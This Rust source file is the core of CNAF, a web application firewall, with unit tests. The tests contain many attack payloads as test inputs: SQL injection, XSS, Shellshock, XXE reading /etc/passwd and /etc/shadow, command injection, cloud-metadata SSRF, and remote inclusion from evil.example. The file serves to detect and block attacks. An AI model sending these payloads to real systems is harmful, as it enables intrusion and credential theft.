//! CNAF, the web application firewall the defender runs in front of the app.
//!
//! - [`inspect`]: the inspection engine, a pure function from request parts and a bounded body
//!   to a [`Verdict`]. No I/O; unit-tested without sockets.
//! - [`model`]: [`RequestParts`], [`Attack`] classes, [`Location`]s, [`Finding`]s, [`Verdict`].
//! - [`policy`]: the per-protection effect map ([`Protections`], [`CnafEffect`]).
//! - `decode`: URL (single, double, `%u`, overlong UTF-8), HTML entities, JS/unicode escapes,
//!   UTF-7, base64-looking values, full-width and enclosed-character folding; gzip/deflate
//!   request bodies, decompressed into at most `body_limit` bytes.
//! - `extract`: every inspected location (path, query, cookies, headers, form, JSON keys and
//!   values, multipart, XML; binary bodies by their printable strings).
//! - `detect`: one module per attack class; SQL injection by tokenizing and judging token shapes
//!   (in the spirit of libinjection), XSS by HTML/attribute/JS context.
//! - [`proxy`]: the reverse proxy (hyper 1.x): inspect up to `body_limit`, stream the rest,
//!   403 block page with a request id, audits through an [`proxy::AuditSink`];
//!   [`proxy::serve`] runs it on threads of its own.

mod decode;
pub mod detect;
mod extract;
pub mod model;
pub mod policy;
pub mod proxy;
mod upload;
mod xml_refs;

pub use model::{Action, Attack, Finding, Location, RequestParts, Verdict};
pub use policy::{CnafEffect, Paranoia, Protections};

/// Inspect one request: `parts` is the request head, `body` the first `body_limit` bytes of the
/// body (the caller bounds it; a truncated body is inspected as far as it goes).
///
/// Returns every finding (at most one per attack class) with the effect `protections` assigns;
/// disabled protections do not run. [`Verdict::action`] says whether to forward, alert or block.
/// A `gzip`/`deflate` body is inspected decompressed, up to [`policy::DEFAULT_BODY_LIMIT`]
/// decoded bytes ([`inspect_with_limit`] takes the policy's limit).
pub fn inspect(parts: &RequestParts, body: &[u8], protections: &Protections) -> Verdict {
    inspect_with_limit(parts, body, protections, policy::DEFAULT_BODY_LIMIT)
}

/// [`inspect`] under a policy's `body_limit`: a body sent with `Content-Encoding: gzip` or
/// `deflate` is decompressed and its first `body_limit` decoded bytes are inspected (the
/// decoder never produces more, so a decompression bomb costs at most that much memory); a
/// stream cut short by the limit gives what decoded before the cut.
pub fn inspect_with_limit(
    parts: &RequestParts,
    body: &[u8],
    protections: &Protections,
    body_limit: usize,
) -> Verdict {
    let mut insp = detect::Inspector::new(protections);
    if insp.wants(Attack::Malformed) {
        if let Some((loc, why)) = detect::malformed::check_parts(parts, body.len()) {
            insp.record(Attack::Malformed, loc, &why);
        }
    }
    extract::walk(parts, body, &mut insp, body_limit);
    Verdict {
        findings: insp.into_findings(),
    }
}

/// What the proxy decides for a whole request: [`inspect`] on the head and the first
/// `body_limit` bytes, then the rest of a text body chunk by chunk, as the proxy inspects it
/// while streaming it to the app. For tools and benchmarks that hold the whole body.
pub fn inspect_whole(
    parts: &RequestParts,
    body: &[u8],
    protections: &Protections,
    body_limit: usize,
) -> Verdict {
    let mut verdict = inspect_with_limit(
        parts,
        &body[..body.len().min(body_limit)],
        protections,
        body_limit,
    );
    if body.len() > body_limit {
        let ct = parts.first_header("content-type").unwrap_or("");
        let ce = parts.first_header("content-encoding");
        if let Some(tail) = proxy::tail::Tail::new(*protections, ct, ce, &body[..body_limit]) {
            for chunk in body[body_limit..].chunks(16 * 1024) {
                if tail.check(chunk) {
                    break;
                }
            }
            for f in tail.outcome().0 {
                if !verdict.has(f.attack) {
                    verdict.findings.push(f);
                }
            }
        }
    }
    verdict
}

/// Inspect a piece of a body that streams past `body_limit` (the proxy calls this chunk by
/// chunk): the text is read as a whole and, for form bodies, field by field.
pub(crate) fn inspect_fragment(text: &str, form: bool, protections: &Protections) -> Vec<Finding> {
    let mut insp = detect::Inspector::new(protections);
    let loc = || Location::Body;
    if form {
        for piece in text.split('&') {
            let value = piece.split_once('=').map_or(piece, |(_, v)| v);
            insp.scan(&loc, value, detect::ValueKind::FormEncoded);
        }
    } else {
        insp.scan(&loc, text, detect::ValueKind::Plain);
    }
    insp.into_findings()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(parts: RequestParts, body: &str) -> Verdict {
        inspect(&parts, body.as_bytes(), &policy::all(CnafEffect::Prevent))
    }

    fn get(target: &str) -> RequestParts {
        RequestParts::new("GET", target).header("Host", "app")
    }

    #[test]
    fn seed_curl_is_blocked() {
        let parts = RequestParts::new("POST", "/")
            .header("Host", "app")
            .header("Content-Type", "application/json")
            .header("Content-Length", "82");
        let v = check(
            parts,
            r#"{"-1+union+all+select+1,group_concat(user,0x3a,file_priv),3,4+from+mysql.user--"}"#,
        );
        assert_eq!(v.action(), Action::Block);
        assert_eq!(v.primary().map(|f| f.attack), Some(Attack::Sqli));
    }

    #[test]
    fn smoke_tests() {
        let cases = [
            (get("/?id=%27%20OR%20%271"), Attack::Sqli),
            (get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"), Attack::Xss),
            (get("/?host=127.0.0.1;/sbin/shutdown"), Attack::Cmdi),
            (get("/?x=phpinfo()"), Attack::CodeInjection),
            (get("/?file=../etc/passwd"), Attack::Lfi),
            (
                get("/").header("User-Agent", "sqlmap/1.7"),
                Attack::AttackTools,
            ),
            (
                get("/").header("User-Agent", "() { :; }; /bin/cat /etc/passwd"),
                Attack::Shellshock,
            ),
            (get("/").header("Content-Length", "3"), Attack::Malformed),
        ];
        for (parts, attack) in cases {
            let v = check(parts.clone(), "");
            assert!(v.has(attack), "{attack} not found in {parts:?}: {v:?}");
            assert_eq!(v.action(), Action::Block);
        }
    }

    #[test]
    fn locations_are_named() {
        let v = check(get("/search?id=1%20or%201%3D1"), "");
        assert_eq!(v.findings[0].location, Location::Query("id".into()));
        assert_eq!(v.findings[0].location.to_string(), "query parameter id");
        let json = RequestParts::new("POST", "/api")
            .header("Host", "a")
            .header("Content-Type", "application/json");
        let v = check(json, r#"{"user":{"name":"x' OR '1'='1"}}"#);
        assert_eq!(
            v.findings[0].location,
            Location::Json {
                path: "$.user.name".into(),
                key: false
            }
        );
        let form = RequestParts::new("POST", "/f")
            .header("Host", "a")
            .header("Content-Type", "application/x-www-form-urlencoded");
        let v = check(form, "a=1&cmd=%3Bcat+%2Fetc%2Fpasswd");
        assert_eq!(v.findings[0].location, Location::Form("cmd".into()));
        let cookie = get("/").header("Cookie", "sid=abc; pref=<script>alert(1)</script>");
        let v = check(cookie, "");
        assert_eq!(v.findings[0].location, Location::Cookie("pref".into()));
    }

    #[test]
    fn multipart_and_xml_bodies() {
        let mp = RequestParts::new("POST", "/upload")
            .header("Host", "a")
            .header("Content-Type", "multipart/form-data; boundary=XyZ");
        let body = "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../etc/passwd\"\r\n\r\nhello\r\n--XyZ--\r\n";
        let v = check(mp.clone(), body);
        assert_eq!(v.primary().map(|f| f.attack), Some(Attack::Lfi));
        let upload = "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\nContent-Type: image/png\r\n\r\nGIF89a\r\n--XyZ--\r\n";
        let v = check(mp, upload);
        assert_eq!(
            v.primary().map(|f| (f.attack, f.location.to_string())),
            Some((
                Attack::CodeInjection,
                "multipart part f filename".to_string()
            ))
        );
        let xml = RequestParts::new("POST", "/soap")
            .header("Host", "a")
            .header("Content-Type", "text/xml");
        let v = check(
            xml.clone(),
            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
        );
        assert!(v.has(Attack::Lfi), "{v:?}");
        let v = check(
            xml.clone(),
            "<a><b>1' union select password from users--</b></a>",
        );
        assert!(v.has(Attack::Sqli), "{v:?}");
    }

    #[test]
    fn graphql_documents_are_judged_by_their_string_literals() {
        let post = RequestParts::new("POST", "/graphql")
            .header("Host", "a")
            .header("Content-Type", "application/json");
        // fields with arguments are not SQL function calls, selection sets not shell groups
        for body in [
            r#"{"query":"query { user(id: 7) { name } }"}"#,
            r#"{"query":"query GetUser($id: ID!) { user(id: $id) { name email orders(last: 5) { total } } }","variables":{"id":"7"}}"#,
            r#"{"query":"{ sleep(hours: 8) { quality } version(major: 2) { notes } }"}"#,
            r#"{"query":"mutation { updateUser(input: {name: \"O'Brien\", bio: \"select your plan\"}) { id } }"}"#,
        ] {
            for level in [1, 2] {
                let p = policy::all(CnafEffect::Prevent).at(Paranoia::new(level).unwrap());
                let v = inspect(&post, body.as_bytes(), &p);
                assert!(v.findings.is_empty(), "level {level}: {body}: {v:?}");
            }
        }
        // brace expansions and template tags that GraphQL would also accept, or nearly
        for (v, attack) in [
            ("/x?c=%7B%2Cifconfig%7D", Attack::Cmdi),
            ("/x?c=%7Bl%2C-lh%7Ds", Attack::Cmdi),
            ("/x?t=%7Bphp%7Decho%20%22test%22", Attack::CodeInjection),
        ] {
            let p = policy::all(CnafEffect::Prevent).at(Paranoia::new(2).unwrap());
            let found = inspect(&get(v), b"", &p);
            assert!(found.has(attack), "{v}: {found:?}");
        }
        // what the strings carry is inspected like any value
        let v = check(
            post.clone(),
            r#"{"query":"{ search(text: \"x' union select password from users--\") { id } }"}"#,
        );
        assert_eq!(
            v.primary().map(|f| (f.attack, f.snippet.as_str())),
            Some((Attack::Sqli, "x' union select password from users--"))
        );
        let v = check(
            post,
            r#"{"query":"{ post(body: \"<script>alert(1)</script>\") { id } __schema { types { name } } }"}"#,
        );
        assert!(v.has(Attack::Xss) && v.has(Attack::Graphql), "{v:?}");
    }

    #[test]
    fn short_parameter_names_with_punctuation_are_inspected() {
        let form = RequestParts::new("POST", "/post")
            .header("Host", "a")
            .header("Content-Type", "application/x-www-form-urlencoded");
        let level3 = policy::all(CnafEffect::Prevent).at(Paranoia::new(3).unwrap());
        // the whole body `||` is one parameter name: a lone SQL operator, a level-3 fragment
        let v = inspect(&form, b"||", &level3);
        assert_eq!(
            v.primary().map(|f| (f.attack, f.location.to_string())),
            Some((Attack::Sqli, "form field ||".to_string())),
            "{v:?}"
        );
        assert!(check(form.clone(), "||").findings.is_empty());
        assert!(inspect(&form, b"id=7&q=shoes", &level3).findings.is_empty());
    }

    #[test]
    fn urls_in_parameters_named_like_files_are_remote_inclusion() {
        let v = check(
            get("/index.php?_CONF%5Bpath%5D=https://evil.example/x.txt"),
            "",
        );
        assert_eq!(
            v.primary().map(|f| (f.attack, f.location.to_string())),
            Some((Attack::Lfi, "query parameter _CONF[path]".to_string())),
            "{v:?}"
        );
        let json = RequestParts::new("POST", "/render")
            .header("Host", "a")
            .header("Content-Type", "application/json");
        let v = check(
            json.clone(),
            r#"{"page":{"template":"https://evil.example/t.tpl"}}"#,
        );
        assert_eq!(
            v.primary().map(|f| (f.attack, f.location.to_string())),
            Some((Attack::Lfi, "JSON value $.page.template".to_string())),
            "{v:?}"
        );
        let form = RequestParts::new("POST", "/x")
            .header("Host", "a")
            .header("Content-Type", "application/x-www-form-urlencoded");
        let v = check(form, "a=1&include_file=ftp%3A%2F%2Fevil.example%2Fa");
        assert!(v.has(Attack::Lfi), "{v:?}");
        // URLs where the app expects one, and a file parameter holding no URL
        for ok in [
            "/login?next=https://example.com/account",
            "/profile?homePage=https://example.com/me",
            "/r?url=https%3A%2F%2Fexample.com%2F",
            "/doc?file=report-2024.pdf",
        ] {
            let v = check(get(ok), "");
            assert!(v.findings.is_empty(), "{ok}: {v:?}");
        }
        let v = check(json, r#"{"avatar_url":"https://cdn.example.com/a.png"}"#);
        assert!(v.findings.is_empty(), "{v:?}");
    }

    #[test]
    fn external_schema_references_in_xml_bodies() {
        let xml = RequestParts::new("POST", "/import")
            .header("Host", "a")
            .header("Content-Type", "application/xml");
        let v = check(
            xml.clone(),
            r#"<?xml version="1.0"?><s:schema xmlns:s="http://www.w3.org/2001/XMLSchema"><s:import schemaLocation="http://169.254.169.254/latest/"/></s:schema>"#,
        );
        assert_eq!(
            v.primary().map(|f| (f.attack, f.location.to_string())),
            Some((
                Attack::Lfi,
                "XML /schema/import/@schemaLocation".to_string()
            ))
        );
        let v = check(
            xml.clone(),
            r#"<doc xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="file:///etc/shadow" parse="text"/></doc>"#,
        );
        assert!(v.has(Attack::Lfi), "{v:?}");
        // a Maven POM names its schema on the namespace's own host: forwarded
        let pom = r#"<?xml version="1.0" encoding="UTF-8"?>
<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
  xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd">
  <modelVersion>4.0.0</modelVersion><groupId>com.example</groupId><artifactId>app</artifactId>
</project>"#;
        let v = check(xml.clone(), pom);
        assert!(v.findings.is_empty(), "{v:?}");
        let v = check(
            xml,
            r#"<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://attacker.example/"/>"#,
        );
        assert!(v.has(Attack::Lfi), "{v:?}");
    }

    #[test]
    fn encodings_are_undone() {
        // double URL encoding, HTML entities, base64
        assert!(check(get("/?q=%253Cscript%253E"), "").has(Attack::Xss));
        assert!(check(get("/?q=%26lt%3Bsvg%2Fonload%3Dalert(1)%26gt%3B"), "").has(Attack::Xss));
        assert!(check(get("/?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="), "").has(Attack::Xss));
    }

    #[test]
    fn benign_requests_pass() {
        let json = RequestParts::new("POST", "/api/orders")
            .header("Host", "shop")
            .header("Content-Type", "application/json")
            .header(
                "User-Agent",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
            )
            .header("Referer", "http://203.0.113.10:8080/cart?step=2")
            .header("Origin", "http://203.0.113.10:8080")
            .header("Cookie", "session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc; theme=dark");
        let v = check(
            json,
            r#"{"items":[{"sku":"A-1","qty":2}],"note":"Please select a gift box from the shelf; it's for Tom & Jerry's party","email":"o'reilly@example.com"}"#,
        );
        assert_eq!(v.action(), Action::Allow, "{v:?}");
        for t in [
            "/search?q=union+was+a+great+select",
            "/products/42?sort=price&order=asc",
            "/blog/2024/01/rock-n-roll?ref=home",
            "/?q=echo+in+the+mirror",
            "/?q=1)+a-b%3Dc",
        ] {
            let v = check(get(t), "");
            assert_eq!(v.action(), Action::Allow, "{t}: {v:?}");
        }
    }

    #[test]
    fn repeated_user_agents_are_remembered_only_under_the_same_protections() {
        let ua = "() { :; }; /bin/id";
        let req = get("/").header("User-Agent", ua);
        let mut sqli_only = policy::all(CnafEffect::Disable);
        sqli_only.sqli = CnafEffect::Prevent;
        for _ in 0..2 {
            // clean for SQL injection, and remembered as such
            assert_eq!(inspect(&req, b"", &sqli_only).action(), Action::Allow);
        }
        let all = policy::all(CnafEffect::Prevent);
        for _ in 0..2 {
            assert!(inspect(&req, b"", &all).has(Attack::Shellshock));
        }
        let browser = get("/").header(
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
        );
        for _ in 0..3 {
            assert_eq!(inspect(&browser, b"", &all).action(), Action::Allow);
        }
        // clean at level 1 is not clean at level 2: the memory is per paranoia level too
        let fragment = get("/").header("User-Agent", "1 is not null");
        let level1 = all.at(Paranoia::MIN);
        for _ in 0..2 {
            assert_eq!(inspect(&fragment, b"", &level1).action(), Action::Allow);
        }
        let level2 = all.at(Paranoia::new(2).unwrap());
        assert!(inspect(&fragment, b"", &level2).has(Attack::Sqli));
    }

    #[test]
    fn alert_and_disable() {
        let mut p = policy::all(CnafEffect::Alert);
        let v = inspect(&get("/?id=1%20or%201=1"), b"", &p);
        assert_eq!(v.action(), Action::Alert);
        p.sqli = CnafEffect::Disable;
        let v = inspect(&get("/?id=1%20or%201=1"), b"", &p);
        assert_eq!(v.action(), Action::Allow);
    }
    #[test]
    fn realistic_benign_values_pass() {
        let values = [
            "O'Brien",
            "P@ssw0rd!",
            "abc'123\"xyz",
            "hunter2;",
            "x--y",
            "#1 fan",
            "pa$$word",
            "100% sure & ready",
            "<p>Hello <strong>world</strong></p><a href=\"https://example.com\">link</a><img src=\"/img/cat.png\" alt=\"cat\">",
            "select all shoes from nike",
            "drop shipping",
            "union jack flag",
            "c++ tutorial",
            "C# vs Java",
            "AT&T",
            "fish & chips",
            "12 O'Connell St., Apt #4",
            "john.o'reilly+test@example.co.uk",
            "https://example.com/path?x=1&y=2#frag",
            "http://localhost:3000/callback",
            "2024-01-01T10:00:00Z",
            "+1 (555) 123-4567",
            "(a+b)*c",
            "report_2024.pdf",
            "I'd like to order 2 items; please deliver by Monday - thanks!",
            "Let's meet @ 5pm; bring snacks & drinks",
            "C:\\Users\\me\\Documents\\file.txt",
            "Please select your seat from the map",
            "Where do I find the order history? It's not in my account.",
            "What's 2 + 2 = 4?",
            "The file is at /home/me/notes.txt",
            "Use the -v flag for verbose output",
            "Tom's \"special\" recipe (v2)",
            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
            "SGVsbG8gd29ybGQsIHRoaXMgaXMgYSB0ZXN0IQ==",
            "color: red; font-size: 12px",
            "We're 50% off -- today only!",
            "Is it true that 1 = 1?",
            "email@example.com; other@example.com",
            "ls -- a list of things",
        ];
        let all = policy::all(CnafEffect::Prevent);
        for v in values {
            for parts in [
                get(&format!(
                    "/search?q={}",
                    v.replace('%', "%25")
                        .replace('&', "%26")
                        .replace('#', "%23")
                        .replace('+', "%2B")
                        .replace(' ', "+")
                )),
                RequestParts::new("POST", "/api")
                    .header("Host", "a")
                    .header("Content-Type", "application/json"),
            ] {
                let body = if parts.method == "POST" {
                    serde_json::json!({ "text": v }).to_string()
                } else {
                    String::new()
                };
                let verdict = inspect(&parts, body.as_bytes(), &all);
                assert_eq!(
                    verdict.action(),
                    Action::Allow,
                    "{v:?} via {}: {verdict:?}",
                    parts.method
                );
            }
        }
    }

    #[test]
    fn referer_query_parameters_are_inspected_one_by_one() {
        let with = |referer: &str| get("/next").header("Referer", referer);
        let v = check(
            with("https://shop.example.com/search?q=shoes&args=env%20--version"),
            "",
        );
        assert_eq!(
            v.primary().map(|f| (f.attack, f.location.to_string())),
            Some((Attack::Cmdi, "header referer".to_string())),
            "{v:?}"
        );
        let v = check(
            with("https://shop.example.com/search?q=env+shoes&sort=price#top"),
            "",
        );
        assert!(v.findings.is_empty(), "{v:?}");
    }

    #[test]
    fn real_browser_and_load_balancer_headers_pass() {
        let parts = RequestParts::new("GET", "/app/dashboard?tab=reports&from=2024-01-01&to=2024-01-31")
            .header("Host", "shop.example.com")
            .header("X-Forwarded-For", "203.0.113.7, 10.0.1.23")
            .header("X-Forwarded-Proto", "https")
            .header("X-Forwarded-Port", "443")
            .header("X-Amzn-Trace-Id", "Root=1-5759e988-bd862e3fe1be46a994272793;Parent=53995c3f42cd8ad8;Sampled=1")
            .header("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01")
            .header("sec-ch-ua", "\"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\", \"Not-A.Brand\";v=\"99\"")
            .header("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36")
            .header("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8")
            .header("Referer", "https://shop.example.com/app/login?next=%2Fapp%2Fdashboard")
            .header("Cookie", "AWSALB=8NCx3Hhx1dtJ3uXgNn0yS2Ykk+Yvu9D0lX7bTQr2v6E=; cart=%7B%22items%22%3A%5B1%2C2%5D%7D; _ga=GA1.2.1234567890.1700000000; lang=en-GB")
            .header("If-None-Match", "W/\"5e-abc\"")
            .header("X-Requested-With", "XMLHttpRequest")
            .header("X-CSRF-Token", "c2VjcmV0LXRva2VuLXZhbHVlLTEyMzQ1Njc4OTA=");
        let v = inspect(&parts, b"", &policy::all(CnafEffect::Prevent));
        assert_eq!(v.action(), Action::Allow, "{v:?}");
    }

    #[test]
    fn binary_bodies_are_inspected_by_their_strings_only() {
        // deterministic pseudo-random bytes, like an uploaded image or archive
        let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
        let noise: Vec<u8> = (0..300_000)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                (x >> 24) as u8
            })
            .collect();
        let all = policy::all(CnafEffect::Prevent);
        let upload = RequestParts::new("POST", "/upload")
            .header("Host", "a")
            .header("Content-Type", "application/octet-stream");
        let v = inspect(&upload, &noise, &all);
        assert_eq!(v.action(), Action::Allow, "{v:?}");
        let undeclared = RequestParts::new("POST", "/upload").header("Host", "a");
        assert_eq!(inspect(&undeclared, &noise, &all).action(), Action::Allow);
        let mut mp = b"--XyZ\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"cat.png\"\r\nContent-Type: image/png\r\n\r\n".to_vec();
        mp.extend_from_slice(&noise[..50_000]);
        mp.extend_from_slice(b"\r\n--XyZ--\r\n");
        let form = RequestParts::new("POST", "/upload")
            .header("Host", "a")
            .header("Content-Type", "multipart/form-data; boundary=XyZ");
        assert_eq!(inspect(&form, &mp, &all).action(), Action::Allow);
        // text carried inside binary framing is still seen
        let mut grpc = vec![0u8, 0, 0, 0, 40, 0x0a, 38];
        grpc.extend_from_slice(b"1' union select password from users--");
        let call = RequestParts::new("POST", "/pkg.Svc/Get")
            .header("Host", "a")
            .header("Content-Type", "application/grpc");
        assert!(inspect(&call, &grpc, &all).has(Attack::Sqli));
    }

    #[test]
    fn repeated_json_strings_are_inspected_once_and_reported_where_first_seen() {
        let json = || {
            RequestParts::new("POST", "/api")
                .header("Host", "a")
                .header("Content-Type", "application/json")
        };
        let v = check(
            json(),
            r#"{"rows":[{"q":"ok"},{"q":"1' OR '1'='1"},{"q":"1' OR '1'='1"}]}"#,
        );
        assert_eq!(
            v.findings
                .iter()
                .map(|f| f.location.to_string())
                .collect::<Vec<_>>(),
            ["JSON value $.rows[1].q"]
        );
        // a string seen as a key and again as a value is reported once, where it was first seen
        let v = check(
            json(),
            r#"{"<script>alert(1)</script>":1,"x":"<script>alert(1)</script>"}"#,
        );
        assert_eq!(
            v.primary().map(|f| f.location.to_string()).as_deref(),
            Some("JSON key $.<script>alert(1)</script>")
        );
        // past the bound on remembered strings, values are still inspected
        let many: Vec<String> = (0..5000).map(|i| format!("\"item {i}\"")).collect();
        let body = format!(r#"{{"a":[{}],"z":"x' OR '1'='1"}}"#, many.join(","));
        assert_eq!(
            check(json(), &body).primary().map(|f| f.attack),
            Some(Attack::Sqli)
        );
    }

    fn gzip(data: &[u8]) -> Vec<u8> {
        use std::io::Write;
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        e.write_all(data).unwrap();
        e.finish().unwrap()
    }

    fn post(ct: &str, ce: &str) -> RequestParts {
        RequestParts::new("POST", "/api")
            .header("Host", "a")
            .header("Content-Type", ct)
            .header("Content-Encoding", ce)
    }

    #[test]
    fn compressed_bodies_are_inspected_decompressed() {
        let all = policy::all(CnafEffect::Prevent);
        let attack = br#"{"user":{"name":"x' OR '1'='1"}}"#;
        let v = inspect(&post("application/json", "gzip"), &gzip(attack), &all);
        assert_eq!(
            v.primary().map(|f| (f.attack, f.location.to_string())),
            Some((Attack::Sqli, "JSON value $.user.name".to_string())),
            "{v:?}"
        );
        let clean = br#"{"items":[{"sku":"A-1","qty":2}],"note":"Tom & Jerry's party"}"#;
        let v = inspect(&post("application/json", "gzip"), &gzip(clean), &all);
        assert_eq!(v.action(), Action::Allow, "{v:?}");
        // deflate as the standard says (zlib) and as some clients send it (raw)
        let form = b"a=1&cmd=%3Bcat+%2Fetc%2Fpasswd";
        for raw in [false, true] {
            use std::io::Write;
            let body = if raw {
                let mut d = flate2::write::DeflateEncoder::new(Vec::new(), Default::default());
                d.write_all(form).unwrap();
                d.finish().unwrap()
            } else {
                let mut z = flate2::write::ZlibEncoder::new(Vec::new(), Default::default());
                z.write_all(form).unwrap();
                z.finish().unwrap()
            };
            let v = inspect(
                &post("application/x-www-form-urlencoded", "deflate"),
                &body,
                &all,
            );
            assert_eq!(
                v.primary().map(|f| f.location.to_string()),
                Some("form field cmd".to_string()),
                "raw deflate {raw}: {v:?}"
            );
        }
        // brotli and zstd
        let json = br#"{"q":"<script>alert(document.cookie)</script>","page":2}"#;
        type Pack = fn(&[u8]) -> Vec<u8>;
        let codings: [(&str, Pack); 2] =
            [("br", decode::tests::brotli), ("zstd", decode::tests::zstd)];
        for (ce, pack) in codings {
            let v = inspect(&post("application/json", ce), &pack(json), &all);
            assert_eq!(
                v.primary().map(|f| (f.attack, f.location.to_string())),
                Some((Attack::Xss, "JSON value $.q".to_string())),
                "{ce}: {v:?}"
            );
            let v = inspect(&post("application/json", ce), &pack(clean), &all);
            assert_eq!(v.action(), Action::Allow, "{ce}: {v:?}");
        }
        // a body that claims a coding it is not in is inspected as sent
        let v = inspect(
            &post("text/plain", "gzip"),
            b"1' union select password from users--",
            &all,
        );
        assert!(v.has(Attack::Sqli), "{v:?}");
    }

    #[test]
    fn decompression_bomb_is_inspected_up_to_the_body_limit_only() {
        let all = policy::all(CnafEffect::Prevent);
        // 32 MiB of text in a ~32 KiB body: spaces, an attack at 1 KiB and one at 16 MiB
        let mut text = vec![b' '; 32 << 20];
        let early = b"<script>alert(1)</script>";
        let late = b"1' union select password from users--";
        text[1024..1024 + early.len()].copy_from_slice(early);
        text[16 << 20..(16 << 20) + late.len()].copy_from_slice(late);
        let bomb = gzip(&text);
        assert!(bomb.len() < 256 * 1024, "{}", bomb.len());
        let parts = post("text/plain", "gzip");
        let t = std::time::Instant::now();
        let v = inspect_with_limit(&parts, &bomb, &all, 64 * 1024);
        assert!(v.has(Attack::Xss), "the decoded prefix is inspected: {v:?}");
        assert!(
            !v.has(Attack::Sqli),
            "past body_limit decoded bytes nothing is decoded or inspected: {v:?}"
        );
        assert!(
            t.elapsed() < std::time::Duration::from_secs(5),
            "{:?}",
            t.elapsed()
        );
    }
}
